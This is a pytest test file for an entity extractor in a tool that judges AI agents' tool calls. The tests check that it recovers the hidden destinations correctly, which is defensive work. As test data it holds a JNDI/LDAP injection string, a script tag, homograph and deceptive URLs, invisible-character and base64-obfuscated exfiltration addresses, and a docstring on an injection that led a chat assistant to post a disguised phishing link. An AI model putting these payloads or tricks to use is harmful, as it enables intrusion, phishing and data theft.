"""Typed entities from structured arguments (models/entities.py): lists are structure, every
kind is confirmed by its parser, hostile input costs bounded work, nothing is fetched."""

from __future__ import annotations

import json
import socket
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from missionguard.models.entities import LIMITS, Entity, extract_entities
from missionguard.pipeline.records import AuthorizationDecision

FILES = Path(__file__).resolve().parents[2] / "files"


def _kinds(arguments: Any) -> list[tuple[str, str, str]]:
    return [(e.kind, e.value, e.path) for e in extract_entities(arguments)]


def test_a_list_is_structure_not_text() -> None:
    assert _kinds({"to": ["a@b.com"]}) == [
        ("email", "a@b.com", "$.to[0]"),
        ("domain", "b.com", "$.to[0]"),
    ]
    # A stringified list is read as the list it holds, never as `b.com"]`.
    found = _kinds({"to": '["a@b.com", "c@d.org"]'})
    assert ("email", "a@b.com", "$.to[0]") in found and ("domain", "b.com", "$.to[0]") in found
    assert ("email", "c@d.org", "$.to[1]") in found
    assert all('"' not in value and "]" not in value for _, value, _ in found)
    # So is a policy document written as a JSON string (CloudTrail's IAM parameters).
    policy = '{"Statement": [{"Principal": {"AWS": "arn:aws:iam::861294773015:root"}}]}'
    assert ("principal", "arn:aws:iam::861294773015:root",
            "$.p.Statement[0].Principal.AWS") in _kinds({"p": policy})  # fmt: skip
    assert _kinds({"p": "{not json"}) == []


def test_paths_follow_nesting() -> None:
    args = {"body": {"parts": [{"x": 1}, {"ref": {"uri": "https://a.example.org/x"}}]}}
    assert ("url", "https://a.example.org/x", "$.body.parts[1].ref.uri") in _kinds(args)
    odd = _kinds({"we'ird]": "x@y.org", "ключ": "z@y.org"})
    assert ("email", "x@y.org", '$["we\'ird]"]') in odd
    assert ("email", "z@y.org", '$["\\u043a\\u043b\\u044e\\u0447"]') in odd


@pytest.mark.parametrize(
    ("value", "domain"),
    [
        ("evil.co.uk", "evil.co.uk"),
        ("a.b.evil.co.uk", "evil.co.uk"),
        ("co.uk", None),  # a public suffix is no registrable domain
        ("attacker.github.io", "attacker.github.io"),  # private section: its own owner
        ("github.io", None),
        ("例子.中国", "xn--fsqu00a.xn--fiqs8s"),  # IDN: A-labels
        ("EXAMPLE.COM", "example.com"),
        ("report.pdf", None),  # no such suffix
        ("localhost", None),
        ("10.0.0.1", None),
        ("-bad-.com", None),
    ],
)
def test_bare_domains_are_public_suffix_aware(value: str, domain: str | None) -> None:
    found = [e.value for e in extract_entities({"d": value}) if e.kind == "domain"]
    assert found == ([domain] if domain else [])


def test_urls_normalised_with_their_registrable_domain() -> None:
    found = _kinds({"u": "HTTPS://user:secret@Bücher.DE:8443/a/b?c=1#frag"})
    assert found == [
        ("url", "https://xn--bcher-kva.de:8443/a/b?c=1", "$.u"),
        ("domain", "xn--bcher-kva.de", "$.u"),
    ]
    # The host is what counts, not what the credentials part pretends.
    deceptive = _kinds({"u": "https://bank.example.com@evil.co.uk/login"})
    assert ("domain", "evil.co.uk", "$.u") in deceptive
    assert not any(v == "example.com" for _, v, _ in deceptive)
    ip = _kinds({"u": "http://192.0.2.1/x"})
    assert ip == [("url", "http://192.0.2.1/x", "$.u")]


def test_homograph_domains_stay_distinct() -> None:
    cyrillic = extract_entities({"u": "https://раураl.com/"})  # Cyrillic letters
    domains = [e.value for e in cyrillic if e.kind == "domain"]
    assert domains and domains[0].startswith("xn--") and domains[0] != "paypal.com"


def test_emails_are_validated_and_normalised() -> None:
    assert _kinds({"e": "Jörg@Bücher.DE"}) == [
        ("email", "Jörg@xn--bcher-kva.de", "$.e"),
        ("domain", "xn--bcher-kva.de", "$.e"),
    ]
    assert _kinds({"e": "mailto:ops@evil.co.uk?subject=x"})[0] == ("email", "ops@evil.co.uk", "$.e")
    for bad in ("a@", "@b.com", "a@@b.com", "a@b", "a@localhost", "a@b..com", "a@-b.com"):
        assert not [e for e in extract_entities({"e": bad}) if e.kind == "email"], bad


def test_ibans_need_a_valid_checksum() -> None:
    assert _kinds({"i": "DE89 3704 0044 0532 0130 00"}) == [
        ("iban", "DE89370400440532013000", "$.i")
    ]
    assert _kinds({"i": "gb82west12345698765432"}) == [("iban", "GB82WEST12345698765432", "$.i")]
    # In IBAN form but failing the checks: an account number all the same, never an iban.
    for bad in ("DE89 3704 0044 0532 0130 01", "DE00370400440532013000", "US133000000121212121212"):
        assert _kinds({"i": bad}) == [("account", bad.replace(" ", ""), "$.i")], bad
    # Request ids and hashes are not accounts: no country, or more letters than a bank code.
    for request_id in ("XX89370400440532013000", "VO733P7Y88A036Y2", "PN761358TU00MC0D"):
        assert _kinds({"i": request_id}) == [], request_id
    # Nor one in that form under a key that says it holds an identifier (an S3 request id),
    # while a valid IBAN there is one.
    assert _kinds({"request_id": "CA452512623586A8"}) == [
        ("object_id", "CA452512623586A8", "$.request_id")
    ]
    assert _kinds({"account_id": "DE89370400440532013000"})[0][0] == "iban"


def test_crypto_addresses_are_accounts() -> None:
    evm = "0x52908400098527886E0F7030069857D2E4169EE7"
    assert _kinds({"wallet": evm}) == [("account", evm.lower(), "$.wallet")]
    btc = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
    for value in (btc, btc.upper()):
        assert _kinds({"to": value}) == [("account", btc, "$.to")], value
    for legacy in ("1NEDqZPvTWRaoho48qXuLLsrYomMXPABfD", "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"):
        assert _kinds({"to": legacy}) == [("account", legacy, "$.to")], legacy
    # Taproot (bech32m) fails the bech32 check: in bech32 form, where a payment goes all the same.
    taproot = "bc1p5d7rjq7g6rdk2yhzks9smlaqtedr4dekq08ge8ztwac72sfr9rusxg3297"
    assert _kinds({"to": taproot}) == [("account", taproot, "$.to")]
    # Named in text (a purpose, a message), and as one of a list.
    text = f"Send 0.01 BTC to {btc} and the rest to {evm}."
    assert [(e.kind, e.value) for e in extract_entities({"m": text})] == [
        ("account", btc),
        ("account", evm.lower()),
    ]
    # A base58 id whose check fails is no address, nor a hash of another length or mixed case.
    for other in (
        "1NEDqZPvTWRaoho48qXuLLsrYomMXPABfX",
        "0x" + "ab" * 32,
        "bc1QAR0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
    ):
        assert not [e for e in extract_entities({"to": other}) if e.kind == "account"], other


def test_a_host_and_a_path_is_a_url_only_where_the_key_says_so() -> None:
    assert _kinds({"url": "evil.example.co.uk/collect"}) == [
        ("url", "http://evil.example.co.uk/collect", "$.url"),
        ("domain", "example.co.uk", "$.url"),
    ]
    # A container image, a module path: the form of a host and a path, and no URL.
    for value in ("ghcr.io/acme-ops/app:1.2", "github.com/acme/tool/v2", "reports/q3.pdf"):
        assert not [e for e in extract_entities({"image": value}) if e.kind == "url"], value


def test_payment_and_messaging_handles_are_accounts() -> None:
    assert _kinds({"destinatario": "@Cobros-Verif-7731"}) == [
        ("account", "@cobros-verif-7731", "$.destinatario")
    ]
    assert _kinds({"to": "$JaneDoe"}) == [("account", "$janedoe", "$.to")]
    # An amount, a scoped package, a bare sign, an address: no handle.
    for other in ("$500", "@scope/pkg", "@", "bob@acme.com"):
        assert not [e for e in extract_entities({"to": other}) if e.value.startswith(("@", "$"))]
    # A handle followed by a full stop is the handle, in text.
    assert [(e.value, e.found) for e in extract_entities({"to": "@ana."})] == [("@ana", "text")]
    # Named in text (a purpose listing friends), not inside an address.
    text = "enviar a @ines.sanz, @diego-lm y @nuria.p. (o a bob@acme.com)"
    assert [e.value for e in extract_entities({"p": text}) if e.kind == "account"] == [
        "@ines.sanz",
        "@diego-lm",
        "@nuria.p",
    ]


def test_tron_addresses_whose_checksum_holds_are_accounts() -> None:
    usdt = "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t"  # Tether's TRC-20 contract
    assert _kinds({"adres": usdt}) == [("account", usdt, "$.adres")]
    assert [(e.kind, e.value, e.found) for e in extract_entities({"n": f"to {usdt}."})] == [
        ("account", usdt, "text")
    ]
    # One character changed: its checksum fails, and the form alone is no address (a T and
    # 33 letters and digits is a common shape of other ids).
    assert _kinds({"adres": usdt[:-1] + "u"}) == []
    assert _kinds({"adres": "TQ8vZKx2mR4pWbN7cJ3hF6sYdL9aE1uGtV"}) == []


def test_msisdns_without_a_plus_under_a_phone_key() -> None:
    assert _kinds({"credit_to": {"msisdn": "254798310442"}}) == [
        ("phone", "+254798310442", "$.credit_to.msisdn")
    ]
    assert _kinds({"recipientPhone": 4915112345678}) == [
        ("phone", "+4915112345678", "$.recipientPhone")
    ]
    # Elsewhere the same digits are no phone (an amount, an order number), nor under a key
    # that only contains the word; a national number has no country; an id stays an id.
    assert _kinds({"amount": "254798310442", "telemetry": "254798310442"}) == []
    assert _kinds({"phone": "0798310442"}) == []
    assert _kinds({"phone_id": "254798310442"}) == [("object_id", "254798310442", "$.phone_id")]


def test_phone_numbers_only_in_international_form() -> None:
    assert _kinds({"p": "+44 20 7946 0958"}) == [("phone", "+442079460958", "$.p")]
    assert _kinds({"p": "0044 20 7946 0958"}) == [("phone", "+442079460958", "$.p")]
    assert _kinds({"p": "tel:+1-201-555-0123"}) == [("phone", "+12015550123", "$.p")]
    assert _kinds({"p": "020 7946 0958"}) == []  # no country to check it against
    assert _kinds({"p": "+99 1234"}) == []  # not a valid number


def test_principals_and_object_ids() -> None:
    found = _kinds(
        {
            "role": "arn:aws:iam::123456789012:role/Admin",
            "session": "arn:aws:sts::123456789012:assumed-role/Admin/i-0abc",
            "object": "arn:aws:s3:::bucket/key.txt",
            "sa": "system:serviceaccount:payments:deployer",
            "workload": "spiffe://corp.example/ns/a/sa/b",
            "doc": "urn:isbn:0451450523",
            "u": "3F2504E0-4F89-11D3-9A0C-0305E82C3301",
            "customer_id": "cus_000123",
            "orderId": 4711,
            "ids": ["a1", 2],
            "id": True,  # a boolean is no id
            "paid": "yes",  # `id` inside a word is not the id convention
        }
    )
    assert found == [
        ("principal", "arn:aws:iam::123456789012:role/Admin", "$.role"),
        ("principal", "arn:aws:sts::123456789012:assumed-role/Admin/i-0abc", "$.session"),
        ("object_id", "arn:aws:s3:::bucket/key.txt", "$.object"),
        ("principal", "system:serviceaccount:payments:deployer", "$.sa"),
        ("principal", "spiffe://corp.example/ns/a/sa/b", "$.workload"),
        ("object_id", "urn:isbn:0451450523", "$.doc"),
        ("object_id", "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "$.u"),
        ("object_id", "cus_000123", "$.customer_id"),
        ("object_id", "4711", "$.orderId"),
        ("object_id", "a1", "$.ids[0]"),
        ("object_id", "2", "$.ids[1]"),
    ]


def test_free_text_is_scanned() -> None:
    body = (
        "Bitte an DE89 3704 0044 0532 0130 00 überweisen, Rückruf +44 20 7946 0958; "
        "code to bob@evil.co.uk, see https://pay.evil.co.uk/i?id=7. Danke"
    )
    found = [(e.kind, e.value, e.found) for e in extract_entities({"body": body})]
    assert found == [
        ("url", "https://pay.evil.co.uk/i?id=7", "text"),
        ("domain", "evil.co.uk", "url"),
        ("email", "bob@evil.co.uk", "text"),
        ("iban", "DE89370400440532013000", "text"),
        ("phone", "+442079460958", "text"),
    ]
    # Bare words that happen to be domains are not read out of prose.
    assert extract_entities({"t": "see main.py and e.g. notes.md"}) == []


def test_hostile_text_is_data() -> None:
    hostile = {
        "a": "\u001b[31mx@y.org\u001b[0m",
        "b": "\u202egnp.exe@evil.co.uk",
        "c": "{0} %s ${jndi:ldap://x.example.net/a} <script>",
        "d": "\x00\x7f",
    }
    found = extract_entities(hostile)
    assert ("url", "ldap://x.example.net/a") in [(e.kind, e.value) for e in found]
    assert all("\x1b" not in e.value and "\u202e" not in e.value for e in found)


def test_numbers_booleans_nulls_and_non_json_are_not_text() -> None:
    assert extract_entities({"a": 1.5, "b": None, "c": False, "d": 10**40}) == []
    assert extract_entities("x@y.org") == [
        Entity("email", "x@y.org", "$"),
        Entity("domain", "y.org", "$", "email"),
    ]
    assert extract_entities(None) == [] and extract_entities({1: "x@y.org"}) == []


def test_each_entity_once_and_limit() -> None:
    assert len(extract_entities({"a": ["x@y.org"] * 5})) == 10
    assert len(extract_entities({"a": "x@y.org x@y.org"})) == 2
    many = {"ids": [f"v{i}" for i in range(1000)]}
    assert len(extract_entities(many)) == LIMITS["entities"]
    assert len(extract_entities(many, limit=3)) == 3


@pytest.mark.parametrize(
    "value",
    [
        "a" * 10_000_000,
        "@" * 100_000,
        "a@" * 100_000,
        "a.b@" * 50_000,
        "http://" * 50_000,
        "+1 " * 100_000,
        "DE89 " * 100_000,
        "\u202e" * 100_000,
        "ℌ" * 100_000 + ".com",
        " ".join(f"u{i}@d{i}.com" for i in range(20_000)),
    ],
    ids=[
        "huge",
        "ats",
        "a-ats",
        "dotted-ats",
        "schemes",
        "phones",
        "ibans",
        "bidi",
        "fold",
        "many",
    ],
)
def test_hostile_strings_cost_bounded_work(value: str) -> None:
    start = time.perf_counter()
    found = extract_entities({"x": value, "y": [value] * 100})
    assert time.perf_counter() - start < 0.5
    assert len(found) <= LIMITS["entities"]


def test_deep_and_wide_structures_are_bounded() -> None:
    deep: Any = "x@y.org"
    for _ in range(10_000):
        deep = [deep]
    assert extract_entities({"d": deep}) == []  # past LIMITS["depth"]: not followed
    wide = {f"k{i}": {"id": i} for i in range(100_000)}
    start = time.perf_counter()
    assert len(extract_entities(wide)) <= LIMITS["values"]
    assert time.perf_counter() - start < 0.5


def test_offline(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("no network")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    args = {"to": "new@never-seen-before.example.co.uk", "u": "https://xn--d1acufc.xn--p1ai/"}
    assert [e.kind for e in extract_entities(args)] == ["email", "domain", "url", "domain"]


def test_the_mcp_sample() -> None:
    line = (FILES / "mcp" / "gateway_tool_calls.jsonl").read_text(encoding="utf-8").splitlines()[4]
    arguments = json.loads(line)["request"]["params"]["arguments"]
    found = {(e.kind, e.value, e.path) for e in extract_entities(arguments)}
    assert {
        ("email", "a@b.com", "$.to[0]"),
        ("email", "Jörg.Müller@xn--bcher-kva.example", "$.to[1]"),
        ("iban", "DE89370400440532013000", "$.body.parts[0].text"),
        ("phone", "+442079460958", "$.body.parts[0].text"),
        ("domain", "evil.co.uk", "$.body.parts[0].text"),
        ("object_id", "att-5541", "$.body.parts[1].ref.id"),
    } <= found
    # A file:// URL has no host: it names nothing outside the agent, so no URL entity.
    assert not any(kind == "url" and value.startswith("file:") for kind, value, _ in found)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=40),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=10), inner),
    max_leaves=30,
)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(doc=JSON)
def test_arbitrary_json_never_raises(doc: Any) -> None:
    for entity in extract_entities(doc):
        assert entity.path.startswith("$") and entity.value


def test_works_on_decisions_arguments() -> None:
    d = AuthorizationDecision(
        event_id="e",
        time="2026-01-01T00:00:00Z",
        agent_id="a",
        action="mcp:mail/send",
        resource="mcp://mail",
        decision="allow",
        source="mcp",
        arguments={"to": ["x@evil.co.uk"]},
    )
    assert [e.kind for e in extract_entities(d.arguments)] == ["email", "domain"]


def test_a_host_a_browser_reaches_is_read_as_it_reaches_it() -> None:
    # One character once made a destination vanish: IDNA 2008 refuses an underscore or a
    # symbol in a host that browsers, curl and DNS take, and a URL written with fewer
    # slashes or backslashes is no URL to urlsplit but one to a browser (WHATWG URL
    # Standard). Each is read as the client reaches it.
    def urls(value: str, key: str = "u") -> list[str]:
        return [e.value for e in extract_entities({key: value}) if e.kind == "url"]

    assert urls("https://x_y.evil.co.uk/c") == ["https://x_y.evil.co.uk/c"]
    assert urls("https://☃.net/x") == ["https://xn--n3h.net/x"]
    assert urls("https:/evil.co.uk/x") == ["https://evil.co.uk/x"]
    assert urls("https:\\\\evil.co.uk\\x") == ["https://evil.co.uk/x"]
    assert urls("https://ev\til.co.uk/x") == ["https://evil.co.uk/x"]  # tabs are dropped
    assert urls("//evil.co.uk/x", key="url") == ["http://evil.co.uk/x"]
    assert urls("https://evil.co.uk%2eacme.com/") == ["https://evil.co.uk.acme.com/"]
    # Where RFC 3986 (Python, curl) and a browser read different hosts, both are destinations.
    assert urls("https://evil.co.uk\\@acme.com/c") == [
        "https://acme.com/c",
        "https://evil.co.uk/@acme.com/c",
    ]
    assert [e.value for e in extract_entities({"u": "https://x_y.evil.co.uk/"})
            if e.kind == "domain"] == ["evil.co.uk"]  # fmt: skip
    # What no client reaches is nothing.
    assert urls("https://evil.com;acme.com/") == urls("https://a..b.com/") == []


def test_an_address_a_mail_server_takes_is_an_address() -> None:
    def emails(value: str) -> list[str]:
        return [e.value for e in extract_entities({"to": value}) if e.kind == "email"]

    assert emails('"x"@evil.co.uk') == ["x@evil.co.uk"]  # the same mailbox as x@evil.co.uk
    assert emails('"x y"@evil.co.uk') == ['"x y"@evil.co.uk']
    assert emails("x@[192.0.2.1]") == ["x@[192.0.2.1]"]  # an address literal (RFC 5321)
    assert emails("x@☃.net") == emails("x@xn--n3h.net") == ["x@xn--n3h.net"]
    assert emails("x@mail_relay.evil.co.uk") == ["x@mail_relay.evil.co.uk"]
    for bad in ("x@localhost", "x@b..com", "x@-b.com", ".x@evil.co.uk"):
        assert emails(bad) == [], bad


@pytest.mark.parametrize(
    "value",
    [
        "x@evil.co.uk, bob@acme.com",
        "bob@acme.com;x@evil.co.uk",
        "x@evil.co.uk bob@acme.com",
        "Mallory <x@evil.co.uk>",
        '"Acme, Bob" <bob@acme.com>, Mallory <x@evil.co.uk>',
        "x@evil.co.uk (Mallory), bob@acme.com",
        "mailto:bob@acme.com,x@evil.co.uk",
    ],
)
def test_a_list_of_addresses_in_one_string_is_a_list_of_values(value: str) -> None:
    # RFC 5322 address lists and separated values are what mail APIs take in a "to" field:
    # each address is a whole value (a destination), not text quoted in a body.
    found = {(e.kind, e.value, e.found) for e in extract_entities({"to": value})}
    assert ("email", "x@evil.co.uk", "value") in found
    assert ("domain", "evil.co.uk", "email") in found


def test_prose_is_no_list() -> None:
    found = extract_entities({"body": "please mail it to x@evil.co.uk, thanks"})
    assert {(e.kind, e.found) for e in found} == {("email", "text"), ("domain", "email")}
    assert extract_entities({"body": "a, b; c"}) == []


def test_a_message_id_is_no_mailbox() -> None:
    # RFC 5322 message ids (<left@right>) look like angle-bracketed addresses: a reply's
    # In-Reply-To and References name a message, not where the reply goes.
    for value in ("<1cc5c33ca960@notify.accounts-login.net>", "<a1@mail.example.com> <b2@x.org>"):
        assert not [e for e in extract_entities({"in_reply_to": value}) if e.found == "value"]
    assert [e.kind for e in extract_entities({"id": "<1cc5@notify.example.org>"})] == ["object_id"]


@pytest.mark.parametrize(
    ("value", "kind", "expected"),
    [
        ("\u200bx@evil.co.uk", "email", "x@evil.co.uk"),
        ("x\u200c@evil.co.uk", "email", "x@evil.co.uk"),
        ("x@evil.co.uk\u200e", "email", "x@evil.co.uk"),
        ("\u2066x@evil.co.uk\u2069", "email", "x@evil.co.uk"),
        ("GB33BUKB2020155555555\u200b5", "iban", "GB33BUKB20201555555555"),
        ("https://evil.co.uk/\u00adx", "url", "https://evil.co.uk/x"),
    ],
)
def test_invisible_characters_hide_no_destination(value: str, kind: str, expected: str) -> None:
    # A zero-width space, a direction mark or isolate, a soft hyphen: invisible, no part of
    # an address, and before this each one made the destination vanish.
    assert (kind, expected) in [(e.kind, e.value) for e in extract_entities({"to": value})]


@pytest.mark.parametrize(
    "value",
    [",", ";", "<", ", ;", "<<", '"', "https://evil.co.uk:" + "9" * 5000 + "/",
     "https://evil.co.uk:\u00b2/", "https://evil.co.uk:\u0663/", "a@\udc80.com", "http://\u0000/"],
)  # fmt: skip
def test_separators_ports_and_odd_hosts_never_raise(value: str) -> None:
    # A lone "," once raised IndexError in the list reading: the record would have been
    # dead-lettered as one the judge fails on, its call unjudged.
    for key in ("to", "url", "body"):
        for entity in extract_entities({key: value}):
            assert entity.value


LISTY = st.text(alphabet=',;<>"() @.:/\\x_9a%\u00b2\u200b', max_size=40)


@settings(max_examples=300, deadline=None)
@given(value=LISTY)
def test_list_and_url_readings_never_raise(value: str) -> None:
    for key in ("to", "url"):
        extract_entities({key: value, "u": "https://" + value, "m": "mailto:" + value})


def test_a_colon_in_a_host_is_an_ipv6_literal_or_no_host() -> None:
    # "https://[evil.com"x]" and "https:/:mailto:" once gave a URL whose host Python's
    # parser refuses, and the judge raised on it (the record dead-lettered, its call
    # unjudged). An IPv6 literal is kept as written.
    for value in ('https://[evil.co.uk"x]/', "https:/:mailto:?", "http://[:x]/"):
        for entity in extract_entities({"url": value}):
            assert entity.kind != "url" or "[" not in entity.value, entity
    assert [e.value for e in extract_entities({"u": "http://[2001:db8::1]:8080/x"})] == [
        "http://[2001:db8::1]:8080/x"
    ]


def test_at_a_domain_in_prose_names_that_organisation() -> None:
    found = extract_entities({"p": "share with the auditors (@Hendriks-Accountants.nl) only"})
    assert [(e.kind, e.value, e.found) for e in found] == [
        ("domain", "hendriks-accountants.nl", "text")
    ]
    # A handle with a dot is no domain unless the public suffix list makes it one.
    assert [e.kind for e in extract_entities({"p": "pay @ines.sanz"})] == ["account"]


def test_a_destination_written_in_base64_is_read() -> None:
    """Corpus v8 (dev): a chat assistant, following text hidden in a supplier's page, posted
    a button whose ``value_b64`` is a look-alike sign-in link in base64; the link was no
    destination at all. A whole value in base64 (or base64url) that decodes to printable
    text holding a URL, an address or a ``www.`` host is read as that text (ATT&CK T1027:
    an encoding hides a link, not where it goes); the path says it was decoded. Ids,
    hashes and binary blobs decode to nothing printable and stay what they were."""
    import base64

    from missionguard.models.entities import ENCODED
    from missionguard.models.features import _top_key

    link = base64.b64encode(b"https://brightwater-reimburse.sso-login.top/claim?src=general")
    found = _kinds({"blocks": [{"value_b64": link.decode()}]})
    path = f"$.blocks[0].value_b64{ENCODED}"
    assert ("url", "https://brightwater-reimburse.sso-login.top/claim?src=general", path) in found
    assert ("domain", "sso-login.top", path) in found and _top_key(path) == "blocks"
    urlsafe = base64.urlsafe_b64encode(b"mail it to eve@drop.example").decode().rstrip("=")
    assert ("email", "eve@drop.example", f"$.data{ENCODED}") in _kinds({"data": urlsafe})
    for quiet in ("c3ViX1E4UjJUNA", "9f86d081884c7d659a2feaa0c55ad015", "AAECAwQFBgcICQoLDA0ODw=="):
        assert _kinds({"token": quiet}) == [], quiet


def test_a_hostile_key_holding_the_decoded_marker_names_its_own_argument() -> None:
    """The review of the base64 reading: a key that itself holds the ``<base64>`` marker is
    quoted in the path, and its argument is that key, not a fragment of it."""
    import base64

    from missionguard.models.features import _top_key

    link = base64.b64encode(b"https://evil.example/p").decode()
    [url] = extract_entities({"to<base64>": link})
    assert url.value == "https://evil.example/p" and _top_key(url.path) == "to<base64>"
